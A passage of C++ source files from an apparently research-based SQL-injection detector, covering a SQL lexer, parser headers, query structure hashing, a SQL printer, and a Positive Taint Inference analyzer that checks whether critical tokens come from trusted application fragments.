    return Make(TokenKind::kError, begin);  // unterminated string
  }

  Token LexQuotedIdentifier(std::size_t begin) {
    ++pos_;  // opening backtick
    while (pos_ < src_.size() && src_[pos_] != '`') ++pos_;
    if (pos_ < src_.size()) {
      ++pos_;
      return Make(TokenKind::kIdentifier, begin);
    }
    return Make(TokenKind::kError, begin);
  }

  Token LexNumber(std::size_t begin) {
    // Hex literal 0x...
    if (src_[pos_] == '0' && (Peek(1) == 'x' || Peek(1) == 'X')) {
      pos_ += 2;
      while (pos_ < src_.size() && (IsAsciiAlnum(src_[pos_]))) ++pos_;
      return Make(TokenKind::kNumber, begin);
    }
    while (pos_ < src_.size() && IsAsciiDigit(src_[pos_])) ++pos_;
    if (pos_ < src_.size() && src_[pos_] == '.') {
      ++pos_;
      while (pos_ < src_.size() && IsAsciiDigit(src_[pos_])) ++pos_;
    }
    if (pos_ < src_.size() && (src_[pos_] == 'e' || src_[pos_] == 'E')) {
      std::size_t mark = pos_;
      ++pos_;
      if (pos_ < src_.size() && (src_[pos_] == '+' || src_[pos_] == '-')) {
        ++pos_;
      }
      if (pos_ < src_.size() && IsAsciiDigit(src_[pos_])) {
        while (pos_ < src_.size() && IsAsciiDigit(src_[pos_])) ++pos_;
      } else {
        pos_ = mark;  // not an exponent after all
      }
    }
    return Make(TokenKind::kNumber, begin);
  }

  Token LexWord(std::size_t begin) {
    while (pos_ < src_.size() &&
           (IsAsciiAlnum(src_[pos_]) || src_[pos_] == '_')) {
      ++pos_;
    }
    std::string_view word = src_.substr(begin, pos_ - begin);
    if (IsKeyword(word)) return Make(TokenKind::kKeyword, begin);
    // A builtin function name is critical only when used as a call — i.e.
    // followed (possibly after whitespace) by '('. Bare words like "char"
    // used as column names stay identifiers.
    if (IsBuiltinFunction(word)) {
      std::size_t look = pos_;
      while (look < src_.size() && IsAsciiSpace(src_[look])) ++look;
      if (look < src_.size() && src_[look] == '(') {
        return Make(TokenKind::kFunction, begin);
      }
    }
    return Make(TokenKind::kIdentifier, begin);
  }

  Token LexOperatorOrPunct(std::size_t begin) {
    const char c = src_[pos_];
    const char n = Peek(1);
    // Two-character operators first.
    if ((c == '<' && (n == '=' || n == '>')) || (c == '>' && n == '=') ||
        (c == '!' && n == '=') || (c == '|' && n == '|') ||
        (c == '&' && n == '&') || (c == ':' && n == '=')) {
      pos_ += 2;
      return Make(TokenKind::kOperator, begin);
    }
    ++pos_;
    switch (c) {
      case '=': case '<': case '>': case '+': case '-': case '*':
      case '/': case '%': case '!': case '|': case '&': case '^':
      case '~':
        return Make(TokenKind::kOperator, begin);
      case ',': case '(': case ')': case '.': case ';': case '@':
        return Make(TokenKind::kPunct, begin);
      default:
        return Make(TokenKind::kError, begin);
    }
  }

  std::string_view src_;
  std::size_t pos_ = 0;
};

// Test-only accounting: the single-pass analysis contract ("exactly one
// Lex per analyzed query") is asserted by counting calls. A relaxed atomic
// increment costs nothing measurable next to tokenization itself.
std::atomic<std::uint64_t> g_lex_calls{0};

}  // namespace

std::uint64_t LexCallsForTest() {
  return g_lex_calls.load(std::memory_order_relaxed);
}

std::vector<Token> Lex(std::string_view query) {
  g_lex_calls.fetch_add(1, std::memory_order_relaxed);
  return Lexer(query).Run();
}

std::vector<Token> CriticalTokens(const std::vector<Token>& tokens) {
  return CriticalTokens(tokens, /*strict_tokens=*/false);
}

const char* TokenKindName(TokenKind k) {
  switch (k) {
    case TokenKind::kKeyword: return "keyword";
    case TokenKind::kFunction: return "function";
    case TokenKind::kIdentifier: return "identifier";
    case TokenKind::kNumber: return "number";
    case TokenKind::kString: return "string";
    case TokenKind::kOperator: return "operator";
    case TokenKind::kPunct: return "punct";
    case TokenKind::kComment: return "comment";
    case TokenKind::kPlaceholder: return "placeholder";
    case TokenKind::kEndOfInput: return "eof";
    case TokenKind::kError: return "error";
  }
  return "unknown";
}

}  // namespace joza::sql
