// Recursive-descent SQL parser over the token stream from lexer.h.
#pragma once

#include <string_view>

#include "sqlparse/ast.h"
#include "util/status.h"

namespace joza::sql {

// Parses a single SQL statement (optionally terminated by ';').
StatusOr<Statement> Parse(std::string_view query);

// Parses just an expression (used by tests and the database engine).
StatusOr<ExprPtr> ParseExpression(std::string_view text);

}  // namespace joza::sql
