// Recursive-descent SQL parser over the token stream from lexer.h.
#pragma once

#include <string_view>
#include <vector>

#include "sqlparse/ast.h"
#include "sqlparse/token.h"
#include "util/status.h"

namespace joza::sql {

// Parses a single SQL statement (optionally terminated by ';').
StatusOr<Statement> Parse(std::string_view query);

// Same, over an already-lexed token stream (`tokens` must be the lex of
// `query`). The analysis hot path lexes once and threads the tokens through
// every consumer; this overload keeps the parser from re-lexing.
StatusOr<Statement> Parse(std::string_view query,
                          const std::vector<Token>& tokens);

// Parses just an expression (used by tests and the database engine).
StatusOr<ExprPtr> ParseExpression(std::string_view text);

}  // namespace joza::sql
