// SQL keyword and builtin-function tables (MySQL-flavoured subset).
#pragma once

#include <string_view>

namespace joza::sql {

// True if `word` (any case) is a reserved SQL keyword.
bool IsKeyword(std::string_view word);

// True if `word` (any case) is a recognized builtin function name.
bool IsBuiltinFunction(std::string_view word);

// True if `text` contains at least one token a SQL lexer classifies as
// critical (keyword/function/operator/comment). Used to filter extracted
// application fragments: only fragments containing a valid SQL token are
// retained by PTI (Section IV-A).
bool ContainsSqlToken(std::string_view text);

}  // namespace joza::sql
