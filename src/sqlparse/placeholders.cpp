#include <algorithm>

#include "sqlparse/ast.h"

namespace joza::sql {

namespace {

void Collect(Expr* e, std::vector<Expr*>& out);

void CollectSelect(SelectStmt* s, std::vector<Expr*>& out) {
  for (auto& core : s->cores) {
    for (auto& item : core.items) Collect(item.expr.get(), out);
    for (auto& j : core.joins) Collect(j.on.get(), out);
    Collect(core.where.get(), out);
    for (auto& g : core.group_by) Collect(g.get(), out);
    Collect(core.having.get(), out);
  }
  for (auto& o : s->order_by) Collect(o.expr.get(), out);
}

void Collect(Expr* e, std::vector<Expr*>& out) {
  if (e == nullptr) return;
  if (e->kind == ExprKind::kPlaceholder) out.push_back(e);
  Collect(e->lhs.get(), out);
  Collect(e->rhs.get(), out);
  Collect(e->extra.get(), out);
  for (auto& a : e->args) Collect(a.get(), out);
  for (auto& a : e->in_list) Collect(a.get(), out);
  if (e->subquery != nullptr) CollectSelect(e->subquery.get(), out);
}

}  // namespace

int BindPlaceholderOrdinals(Statement& stmt) {
  std::vector<Expr*> found;
  switch (stmt.kind) {
    case StatementKind::kSelect:
      CollectSelect(stmt.select.get(), found);
      break;
    case StatementKind::kInsert:
      for (auto& row : stmt.insert->rows) {
        for (auto& e : row) Collect(e.get(), found);
      }
      break;
    case StatementKind::kUpdate:
      for (auto& [col, e] : stmt.update->assignments) Collect(e.get(), found);
      Collect(stmt.update->where.get(), found);
      break;
    case StatementKind::kDelete:
      Collect(stmt.del->where.get(), found);
      break;
    case StatementKind::kCreateTable:
    case StatementKind::kDropTable:
    case StatementKind::kShowTables:
      break;
  }
  // Query byte order, stable for placeholders sharing a position (never
  // happens in practice).
  std::stable_sort(found.begin(), found.end(), [](const Expr* a, const Expr* b) {
    return a->span.begin < b->span.begin;
  });
  for (std::size_t i = 0; i < found.size(); ++i) {
    found[i]->placeholder_ordinal = static_cast<int>(i);
  }
  return static_cast<int>(found.size());
}

}  // namespace joza::sql
