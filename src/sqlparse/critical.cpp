#include "sqlparse/critical.h"

namespace joza::sql {

std::vector<CriticalUnit> BuildCriticalUnits(const std::vector<Token>& tokens,
                                             bool strict_tokens) {
  std::vector<CriticalUnit> units;
  for (const Token& t : tokens) {
    if (IsCriticalToken(t, strict_tokens)) {
      units.push_back({t.span, t});
    } else if (t.kind == TokenKind::kString && t.span.length() >= 2) {
      // Opening and closing delimiter quotes of a string literal.
      units.push_back({{t.span.begin, t.span.begin + 1}, t});
      units.push_back({{t.span.end - 1, t.span.end}, t});
    }
  }
  return units;
}

std::vector<Token> CriticalTokens(const std::vector<Token>& tokens,
                                  bool strict_tokens) {
  std::vector<Token> out;
  for (const Token& t : tokens) {
    if (IsCriticalToken(t, strict_tokens)) out.push_back(t);
  }
  return out;
}

}  // namespace joza::sql
