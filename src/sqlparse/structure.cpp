#include "sqlparse/structure.h"

#include "sqlparse/lexer.h"
#include "sqlparse/parser.h"
#include "util/hash.h"
#include "util/strings.h"

namespace joza::sql {

namespace {

class StructureHasher {
 public:
  std::uint64_t Hash(const Statement& stmt) {
    Mix(static_cast<std::uint64_t>(stmt.kind));
    switch (stmt.kind) {
      case StatementKind::kSelect: HashSelect(*stmt.select); break;
      case StatementKind::kInsert: HashInsert(*stmt.insert); break;
      case StatementKind::kUpdate: HashUpdate(*stmt.update); break;
      case StatementKind::kDelete: HashDelete(*stmt.del); break;
      case StatementKind::kCreateTable:
        MixString(stmt.create->table);
        for (const auto& c : stmt.create->columns) MixString(c.name);
        break;
      case StatementKind::kDropTable:
        MixString(stmt.drop->table);
        break;
      case StatementKind::kShowTables:
        break;  // no payload beyond the kind itself
    }
    return h_;
  }

 private:
  void Mix(std::uint64_t v) { h_ = HashCombine(h_, v); }
  void MixString(std::string_view s) { Mix(Fnv1a64(s)); }

  void HashSelect(const SelectStmt& s) {
    Mix(0x5e1ec7);
    for (std::size_t i = 0; i < s.cores.size(); ++i) {
      HashCore(s.cores[i]);
      if (i > 0) Mix(s.union_all[i - 1] ? 0xa11 : 0xd15);
    }
    for (const auto& o : s.order_by) {
      HashExpr(o.expr.get());
      Mix(o.descending ? 2 : 1);
    }
    // LIMIT/OFFSET values are data, but their *presence* is structure.
    Mix(s.limit.has_value() ? 0x11 : 0x10);
    Mix(s.offset.has_value() ? 0x21 : 0x20);
  }

  void HashCore(const SelectCore& c) {
    Mix(c.distinct ? 0xd1 : 0xd0);
    for (const auto& item : c.items) {
      HashExpr(item.expr.get());
      MixString(item.alias);
    }
    if (c.from) {
      MixString(ToLower(c.from->table));
    }
    for (const auto& j : c.joins) {
      Mix(static_cast<std::uint64_t>(j.kind));
      MixString(ToLower(j.table.table));
      HashExpr(j.on.get());
    }
    Mix(0x3e1);
    HashExpr(c.where.get());
    for (const auto& g : c.group_by) HashExpr(g.get());
    Mix(0x3e2);
    HashExpr(c.having.get());
  }

  void HashInsert(const InsertStmt& s) {
    Mix(0x41);
    MixString(ToLower(s.table));
    for (const auto& c : s.columns) MixString(ToLower(c));
    Mix(s.rows.size());
    for (const auto& row : s.rows) {
      Mix(0x70);
      for (const auto& e : row) HashExpr(e.get());
    }
  }

  void HashUpdate(const UpdateStmt& s) {
    Mix(0x42);
    MixString(ToLower(s.table));
    for (const auto& [col, e] : s.assignments) {
      MixString(ToLower(col));
      HashExpr(e.get());
    }
    HashExpr(s.where.get());
  }

  void HashDelete(const DeleteStmt& s) {
    Mix(0x43);
    MixString(ToLower(s.table));
    HashExpr(s.where.get());
  }

  void HashExpr(const Expr* e) {
    if (e == nullptr) {
      Mix(0);
      return;
    }
    Mix(static_cast<std::uint64_t>(e->kind) + 0x100);
    switch (e->kind) {
      case ExprKind::kNullLiteral:
      case ExprKind::kIntLiteral:
      case ExprKind::kDoubleLiteral:
      case ExprKind::kStringLiteral:
      case ExprKind::kBoolLiteral:
        // Data node: value deliberately NOT hashed.
        break;
      case ExprKind::kColumnRef:
        MixString(ToLower(e->qualifier));
        MixString(ToLower(e->column));
        break;
      case ExprKind::kBinary:
        Mix(static_cast<std::uint64_t>(e->binary_op) + 0x200);
        HashExpr(e->lhs.get());
        HashExpr(e->rhs.get());
        break;
      case ExprKind::kUnary:
        Mix(static_cast<std::uint64_t>(e->unary_op) + 0x300);
        HashExpr(e->lhs.get());
        break;
      case ExprKind::kFunctionCall:
        MixString(e->function_name);
        Mix(e->args.size());
        for (const auto& a : e->args) HashExpr(a.get());
        break;
      case ExprKind::kInList:
        Mix(e->negated ? 0x401 : 0x400);
        HashExpr(e->lhs.get());
        Mix(e->in_list.size());
        for (const auto& a : e->in_list) HashExpr(a.get());
        break;
      case ExprKind::kBetween:
        Mix(e->negated ? 0x501 : 0x500);
        HashExpr(e->lhs.get());
        HashExpr(e->rhs.get());
        HashExpr(e->extra.get());
        break;
      case ExprKind::kSubquery: {
        Mix(0x600);
        StructureHasher sub;
        sub.HashSelect(*e->subquery);
        Mix(sub.h_);
        break;
      }
      case ExprKind::kPlaceholder:
        MixString(e->placeholder_name);
        break;
    }
  }

  std::uint64_t h_ = kFnvOffset;
};

}  // namespace

std::uint64_t StructureHash(const Statement& stmt) {
  return StructureHasher().Hash(stmt);
}

StatusOr<std::uint64_t> StructureHashOf(std::string_view query) {
  auto stmt = Parse(query);
  if (!stmt.ok()) return stmt.status();
  return StructureHash(stmt.value());
}

StatusOr<std::uint64_t> StructureHashOf(std::string_view query,
                                        const std::vector<Token>& tokens) {
  auto stmt = Parse(query, tokens);
  if (!stmt.ok()) return stmt.status();
  return StructureHash(stmt.value());
}

std::uint64_t TokenSkeletonHash(std::string_view query) {
  std::uint64_t h = kFnvOffset ^ 0xabcdef;  // domain-separated from AST hash
  for (const Token& t : Lex(query)) {
    h = HashCombine(h, static_cast<std::uint64_t>(t.kind));
    switch (t.kind) {
      case TokenKind::kNumber:
      case TokenKind::kString:
        break;  // blank data
      case TokenKind::kKeyword:
      case TokenKind::kFunction:
      case TokenKind::kIdentifier:
        h = HashCombine(h, Fnv1a64(ToUpper(t.text)));
        break;
      default:
        h = HashCombine(h, Fnv1a64(t.text));
        break;
    }
  }
  return h;
}

std::string TokenSkeleton(std::string_view query) {
  std::string out;
  for (const Token& t : Lex(query)) {
    if (!out.empty()) out.push_back(' ');
    switch (t.kind) {
      case TokenKind::kNumber: out += "<num>"; break;
      case TokenKind::kString: out += "<str>"; break;
      case TokenKind::kIdentifier: out += "<id>"; break;
      case TokenKind::kComment: out += "<comment>"; break;
      case TokenKind::kKeyword:
      case TokenKind::kFunction:
        out += ToUpper(t.text);
        break;
      default:
        out += std::string(t.text);
        break;
    }
  }
  return out;
}

}  // namespace joza::sql
