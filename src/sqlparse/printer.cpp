#include "sqlparse/printer.h"

#include <cstdio>

#include "util/strings.h"

namespace joza::sql {

namespace {

// Re-quotes a string literal, escaping embedded quotes and backslashes.
std::string QuoteString(const std::string& value) {
  std::string out = "'";
  for (char c : value) {
    if (c == '\'' || c == '\\') out.push_back('\\');
    out.push_back(c);
  }
  out.push_back('\'');
  return out;
}

std::string PrintDouble(double v) {
  char buf[64];
  std::snprintf(buf, sizeof buf, "%.17g", v);
  std::string s = buf;
  // Force a decimal marker so the round trip keeps the kDoubleLiteral kind.
  if (s.find('.') == std::string::npos && s.find('e') == std::string::npos &&
      s.find("inf") == std::string::npos && s.find("nan") == std::string::npos) {
    s += ".0";
  }
  return s;
}

std::string PrintColumnRef(const Expr& e) {
  std::string out;
  if (!e.qualifier.empty()) out = e.qualifier + ".";
  out += e.column;
  return out;
}

std::string PrintTableRef(const TableRef& t) {
  std::string out = t.table;
  if (!t.alias.empty()) out += " AS " + t.alias;
  return out;
}

}  // namespace

std::string Print(const Expr& e) {
  switch (e.kind) {
    case ExprKind::kNullLiteral: return "NULL";
    case ExprKind::kIntLiteral: return std::to_string(e.int_value);
    case ExprKind::kDoubleLiteral: return PrintDouble(e.double_value);
    case ExprKind::kStringLiteral: return QuoteString(e.string_value);
    case ExprKind::kBoolLiteral: return e.bool_value ? "TRUE" : "FALSE";
    case ExprKind::kColumnRef: return PrintColumnRef(e);
    case ExprKind::kPlaceholder: return e.placeholder_name;
    case ExprKind::kBinary: {
      const char* op = BinaryOpName(e.binary_op);
      return "(" + Print(*e.lhs) + " " + op + " " + Print(*e.rhs) + ")";
    }
    case ExprKind::kUnary:
      switch (e.unary_op) {
        case UnaryOp::kNot: return "(NOT " + Print(*e.lhs) + ")";
        case UnaryOp::kNeg: return "(- " + Print(*e.lhs) + ")";
        case UnaryOp::kIsNull: return "(" + Print(*e.lhs) + " IS NULL)";
        case UnaryOp::kIsNotNull:
          return "(" + Print(*e.lhs) + " IS NOT NULL)";
      }
      return "?";
    case ExprKind::kFunctionCall: {
      std::string out = e.function_name + "(";
      for (std::size_t i = 0; i < e.args.size(); ++i) {
        if (i > 0) out += ", ";
        out += Print(*e.args[i]);
      }
      return out + ")";
    }
    case ExprKind::kInList: {
      std::string out = "(" + Print(*e.lhs);
      out += e.negated ? " NOT IN (" : " IN (";
      for (std::size_t i = 0; i < e.in_list.size(); ++i) {
        if (i > 0) out += ", ";
        out += Print(*e.in_list[i]);
      }
      return out + "))";
    }
    case ExprKind::kBetween: {
      std::string out = "(" + Print(*e.lhs);
      out += e.negated ? " NOT BETWEEN " : " BETWEEN ";
      return out + Print(*e.rhs) + " AND " + Print(*e.extra) + ")";
    }
    case ExprKind::kSubquery:
      return "(" + Print(*e.subquery) + ")";
  }
  return "?";
}

std::string Print(const SelectStmt& stmt) {
  std::string out;
  for (std::size_t ci = 0; ci < stmt.cores.size(); ++ci) {
    if (ci > 0) {
      out += stmt.union_all[ci - 1] ? " UNION ALL " : " UNION ";
    }
    const SelectCore& core = stmt.cores[ci];
    out += "SELECT ";
    if (core.distinct) out += "DISTINCT ";
    for (std::size_t i = 0; i < core.items.size(); ++i) {
      if (i > 0) out += ", ";
      out += Print(*core.items[i].expr);
      if (!core.items[i].alias.empty()) out += " AS " + core.items[i].alias;
    }
    if (core.from) {
      out += " FROM " + PrintTableRef(*core.from);
      for (const JoinClause& j : core.joins) {
        switch (j.kind) {
          case JoinClause::Kind::kInner: out += " INNER JOIN "; break;
          case JoinClause::Kind::kLeft: out += " LEFT JOIN "; break;
          case JoinClause::Kind::kCross: out += " CROSS JOIN "; break;
        }
        out += PrintTableRef(j.table);
        if (j.on != nullptr) out += " ON " + Print(*j.on);
      }
    }
    if (core.where != nullptr) out += " WHERE " + Print(*core.where);
    if (!core.group_by.empty()) {
      out += " GROUP BY ";
      for (std::size_t i = 0; i < core.group_by.size(); ++i) {
        if (i > 0) out += ", ";
        out += Print(*core.group_by[i]);
      }
    }
    if (core.having != nullptr) out += " HAVING " + Print(*core.having);
  }
  if (!stmt.order_by.empty()) {
    out += " ORDER BY ";
    for (std::size_t i = 0; i < stmt.order_by.size(); ++i) {
      if (i > 0) out += ", ";
      out += Print(*stmt.order_by[i].expr);
      if (stmt.order_by[i].descending) out += " DESC";
    }
  }
  if (stmt.limit) out += " LIMIT " + std::to_string(*stmt.limit);
  if (stmt.offset) out += " OFFSET " + std::to_string(*stmt.offset);
  return out;
}

std::string Print(const Statement& stmt) {
  switch (stmt.kind) {
    case StatementKind::kSelect:
      return Print(*stmt.select);
    case StatementKind::kInsert: {
      const InsertStmt& s = *stmt.insert;
      std::string out = "INSERT INTO " + s.table;
      if (!s.columns.empty()) {
        out += " (" + Join(s.columns, ", ") + ")";
      }
      out += " VALUES ";
      for (std::size_t r = 0; r < s.rows.size(); ++r) {
        if (r > 0) out += ", ";
        out += "(";
        for (std::size_t i = 0; i < s.rows[r].size(); ++i) {
          if (i > 0) out += ", ";
          out += Print(*s.rows[r][i]);
        }
        out += ")";
      }
      return out;
    }
    case StatementKind::kUpdate: {
      const UpdateStmt& s = *stmt.update;
      std::string out = "UPDATE " + s.table + " SET ";
      for (std::size_t i = 0; i < s.assignments.size(); ++i) {
        if (i > 0) out += ", ";
        out += s.assignments[i].first + " = " + Print(*s.assignments[i].second);
      }
      if (s.where != nullptr) out += " WHERE " + Print(*s.where);
      if (s.limit) out += " LIMIT " + std::to_string(*s.limit);
      return out;
    }
    case StatementKind::kDelete: {
      const DeleteStmt& s = *stmt.del;
      std::string out = "DELETE FROM " + s.table;
      if (s.where != nullptr) out += " WHERE " + Print(*s.where);
      if (s.limit) out += " LIMIT " + std::to_string(*s.limit);
      return out;
    }
    case StatementKind::kCreateTable: {
      const CreateTableStmt& s = *stmt.create;
      std::string out = "CREATE TABLE ";
      if (s.if_not_exists) out += "IF NOT EXISTS ";
      out += s.table + " (";
      for (std::size_t i = 0; i < s.columns.size(); ++i) {
        if (i > 0) out += ", ";
        out += s.columns[i].name;
        switch (s.columns[i].type) {
          case ColumnDef::Type::kInt: out += " INT"; break;
          case ColumnDef::Type::kDouble: out += " DOUBLE"; break;
          case ColumnDef::Type::kText: out += " TEXT"; break;
        }
      }
      return out + ")";
    }
    case StatementKind::kDropTable: {
      const DropTableStmt& s = *stmt.drop;
      std::string out = "DROP TABLE ";
      if (s.if_exists) out += "IF EXISTS ";
      return out + s.table;
    }
    case StatementKind::kShowTables:
      return "SHOW TABLES";
  }
  return "?";
}

}  // namespace joza::sql
