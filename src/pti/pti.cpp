#include "pti/pti.h"

#include <utility>

#include "sqlparse/critical.h"
#include "sqlparse/lexer.h"

namespace joza::pti {

PtiAnalyzer::PtiAnalyzer(php::FragmentSet fragments, PtiConfig config)
    : ruleset_(Ruleset::Build(std::move(fragments), config, /*version=*/0)) {
  ResetMru();
}

void PtiAnalyzer::ResetMru() {
  mru_.resize(ruleset_->fragments().size());
  for (std::size_t i = 0; i < mru_.size(); ++i) mru_[i] = i;
}

void PtiAnalyzer::AddFragments(const std::vector<php::SourceFile>& files) {
  ruleset_ = ruleset_->WithSources(files);
  ResetMru();
}

void PtiAnalyzer::AddRawFragments(const std::vector<std::string>& texts,
                                  std::uint64_t new_version) {
  ruleset_ = ruleset_->WithRawFragments(texts, new_version);
  ResetMru();
}

PtiResult PtiAnalyzer::Analyze(std::string_view query) const {
  return Analyze(query, sql::Lex(query));
}

PtiResult PtiAnalyzer::Analyze(std::string_view query,
                               const std::vector<sql::Token>& tokens) const {
  // Dispatch on the snapshot-time plan, like the lock-free AnalyzeUnits
  // path — the strategy was fixed when the ruleset was built.
  return ruleset_->plan().use_automaton ? AnalyzeAho(query, tokens)
                                        : AnalyzeNaive(query, tokens);
}

PtiResult PtiAnalyzer::AnalyzeAho(
    std::string_view query, const std::vector<sql::Token>& tokens) const {
  return pti::AnalyzeAho(
      *ruleset_, query,
      sql::BuildCriticalUnits(tokens, config().strict_tokens));
}

PtiResult PtiAnalyzer::AnalyzeNaive(
    std::string_view query, const std::vector<sql::Token>& tokens) const {
  return pti::AnalyzeNaive(
      *ruleset_, query,
      sql::BuildCriticalUnits(tokens, config().strict_tokens), &mru_);
}

}  // namespace joza::pti
