#include "pti/pti.h"

#include <algorithm>

#include "sqlparse/lexer.h"

namespace joza::pti {

PtiAnalyzer::PtiAnalyzer(php::FragmentSet fragments, PtiConfig config)
    : fragments_(std::move(fragments)), config_(config) {
  BuildIndex();
}

void PtiAnalyzer::AddFragments(const std::vector<php::SourceFile>& files) {
  for (const auto& f : files) fragments_.AddSource(f);
  BuildIndex();
}

void PtiAnalyzer::BuildIndex() {
  automaton_ = match::AhoCorasick();
  const auto& frags = fragments_.fragments();
  for (std::size_t i = 0; i < frags.size(); ++i) {
    automaton_.Add(frags[i].text, static_cast<std::int32_t>(i));
  }
  automaton_.Build();
  mru_.resize(frags.size());
  for (std::size_t i = 0; i < mru_.size(); ++i) mru_[i] = i;
}

PtiResult PtiAnalyzer::Analyze(std::string_view query) const {
  return Analyze(query, sql::Lex(query));
}

PtiResult PtiAnalyzer::Analyze(std::string_view query,
                               const std::vector<sql::Token>& tokens) const {
  return config_.use_aho_corasick ? AnalyzeAho(query, tokens)
                                  : AnalyzeNaive(query, tokens);
}

namespace {

// One thing a fragment occurrence must cover: a whole critical token, or a
// single string-delimiter quote byte.
struct CriticalUnit {
  ByteSpan span;
  sql::Token token;  // the token this unit belongs to (for reporting)
};

std::vector<CriticalUnit> BuildCriticalUnits(
    const std::vector<sql::Token>& tokens, bool strict_tokens) {
  std::vector<CriticalUnit> units;
  for (const sql::Token& t : tokens) {
    if (t.IsCritical() ||
        (strict_tokens && t.kind == sql::TokenKind::kIdentifier)) {
      units.push_back({t.span, t});
    } else if (t.kind == sql::TokenKind::kString && t.span.length() >= 2) {
      // Opening and closing delimiter quotes of a string literal.
      units.push_back({{t.span.begin, t.span.begin + 1}, t});
      units.push_back({{t.span.end - 1, t.span.end}, t});
    }
  }
  return units;
}

// Marks units covered by `span`; returns how many were newly covered.
std::size_t MarkCovered(const ByteSpan& span,
                        const std::vector<CriticalUnit>& units,
                        std::vector<bool>& covered) {
  std::size_t newly = 0;
  for (std::size_t i = 0; i < units.size(); ++i) {
    if (!covered[i] && span.contains(units[i].span)) {
      covered[i] = true;
      ++newly;
    }
  }
  return newly;
}

void FillVerdict(PtiResult& result, const std::vector<CriticalUnit>& units,
                 const std::vector<bool>& covered) {
  for (std::size_t i = 0; i < units.size(); ++i) {
    if (!covered[i]) {
      result.attack_detected = true;
      result.untrusted_critical_tokens.push_back(units[i].token);
    }
  }
}

}  // namespace

PtiResult PtiAnalyzer::AnalyzeAho(std::string_view query,
                                  const std::vector<sql::Token>& tokens) const {
  PtiResult result;
  const auto units = BuildCriticalUnits(tokens, config_.strict_tokens);
  std::vector<bool> covered(units.size(), false);

  automaton_.FindAll(query, [&](const match::AhoCorasick::Hit& hit) {
    ++result.hits;
    ByteSpan span{hit.begin, hit.begin + hit.length};
    MarkCovered(span, units, covered);
    result.positive_spans.push_back(span);
  });
  result.fragments_scanned = fragments_.size();  // one automaton pass
  FillVerdict(result, units, covered);
  return result;
}

PtiResult PtiAnalyzer::AnalyzeNaive(
    std::string_view query, const std::vector<sql::Token>& tokens) const {
  PtiResult result;
  const auto units = BuildCriticalUnits(tokens, config_.strict_tokens);
  std::vector<bool> covered(units.size(), false);
  std::size_t remaining = units.size();

  const auto& frags = fragments_.fragments();
  std::vector<std::size_t> order = mru_;
  std::vector<std::size_t> matched_fragments;

  for (std::size_t oi = 0; oi < order.size(); ++oi) {
    const std::size_t fi = order[oi];
    const std::string& pattern = frags[fi].text;
    ++result.fragments_scanned;
    bool fragment_matched = false;
    std::size_t pos = query.find(pattern);
    while (pos != std::string_view::npos) {
      ++result.hits;
      fragment_matched = true;
      ByteSpan span{pos, pos + pattern.size()};
      result.positive_spans.push_back(span);
      remaining -= MarkCovered(span, units, covered);
      pos = query.find(pattern, pos + 1);
    }
    if (fragment_matched) matched_fragments.push_back(fi);
    // Paper optimization: with the critical set known up front, stop as
    // soon as every critical token is trusted. Benign queries exit after a
    // handful of fragments; attack queries scan the whole set.
    if (config_.parse_first && remaining == 0) break;
  }

  // MRU update: move fragments that matched to the front of the ordering.
  if (config_.mru_size > 0 && !matched_fragments.empty()) {
    std::vector<std::size_t> next;
    next.reserve(mru_.size());
    const std::size_t take =
        std::min(matched_fragments.size(), config_.mru_size);
    for (std::size_t i = 0; i < take; ++i) {
      next.push_back(matched_fragments[i]);
    }
    for (std::size_t fi : mru_) {
      if (std::find(next.begin(), next.begin() + static_cast<std::ptrdiff_t>(take),
                    fi) == next.begin() + static_cast<std::ptrdiff_t>(take)) {
        next.push_back(fi);
      }
    }
    mru_ = std::move(next);
  }

  FillVerdict(result, units, covered);
  return result;
}

}  // namespace joza::pti
