// Positive Taint Inference (Section III-B).
//
// PTI marks query spans matching application string fragments as trusted
// (positively tainted). A query is safe iff every critical token is fully
// contained within a single fragment occurrence; comments count as one
// critical token and must likewise come whole from one fragment — the rule
// that stops attackers from assembling critical tokens out of fragment
// shards.
//
// String-literal delimiter quotes are critical units too (the threat model
// counts delimiters): each opening and closing quote of a string literal
// must lie inside some fragment occurrence. Application-built strings
// satisfy this naturally (the quotes live in the query template fragments,
// e.g. "... name = '" and "' LIMIT 1"); an attacker's breakout quote has no
// fragment to come from and is flagged.
#pragma once

#include <cstddef>
#include <string_view>
#include <vector>

#include "match/aho_corasick.h"
#include "phpsrc/fragments.h"
#include "sqlparse/token.h"
#include "util/span.h"

namespace joza::pti {

struct PtiConfig {
  // Multi-pattern automaton vs the paper's original per-fragment scan;
  // ablated in bench_ablation_match.
  bool use_aho_corasick = true;

  // Paper optimization #2: parse the query for critical tokens first, then
  // match only until every critical token is covered (naive path only —
  // benign queries finish after a few fragments, malicious ones scan all).
  bool parse_first = true;

  // Paper optimization #1: most-recently-used fragment ordering exploiting
  // the application's SQL working set (naive path only).
  std::size_t mru_size = 64;

  // Strict Ray-Ligatti-style policy (Section II): identifiers must come
  // from fragments too, so user-supplied field/table names are rejected.
  // Breaks advanced-search applications; off by default like the paper.
  bool strict_tokens = false;
};

struct PtiResult {
  bool attack_detected = false;
  // Fragment occurrences found in the query (positive taint markings).
  std::vector<ByteSpan> positive_spans;
  // Critical tokens not covered by any single fragment (the evidence).
  std::vector<sql::Token> untrusted_critical_tokens;
  // Diagnostics for the perf benches.
  std::size_t fragments_scanned = 0;
  std::size_t hits = 0;
};

class PtiAnalyzer {
 public:
  explicit PtiAnalyzer(php::FragmentSet fragments, PtiConfig config = {});

  const php::FragmentSet& fragments() const { return fragments_; }
  const PtiConfig& config() const { return config_; }

  // Adds fragments discovered after installation (plugin update) and
  // rebuilds the match index — the preprocessing component re-invokes the
  // installer when new or modified files appear (Section IV-B).
  void AddFragments(const std::vector<php::SourceFile>& files);

  // Analyzes one query. `tokens` must be the lex of `query`.
  PtiResult Analyze(std::string_view query,
                    const std::vector<sql::Token>& tokens) const;

  // Convenience: lexes the query itself.
  PtiResult Analyze(std::string_view query) const;

 private:
  void BuildIndex();
  PtiResult AnalyzeAho(std::string_view query,
                       const std::vector<sql::Token>& tokens) const;
  PtiResult AnalyzeNaive(std::string_view query,
                         const std::vector<sql::Token>& tokens) const;

  php::FragmentSet fragments_;
  PtiConfig config_;
  match::AhoCorasick automaton_;
  // MRU ordering of fragment indexes for the naive path; mutated during
  // analysis (performance state only, results are order-independent).
  mutable std::vector<std::size_t> mru_;
};

}  // namespace joza::pti
