// Positive Taint Inference (Section III-B).
//
// PTI marks query spans matching application string fragments as trusted
// (positively tainted). A query is safe iff every critical token is fully
// contained within a single fragment occurrence; comments count as one
// critical token and must likewise come whole from one fragment — the rule
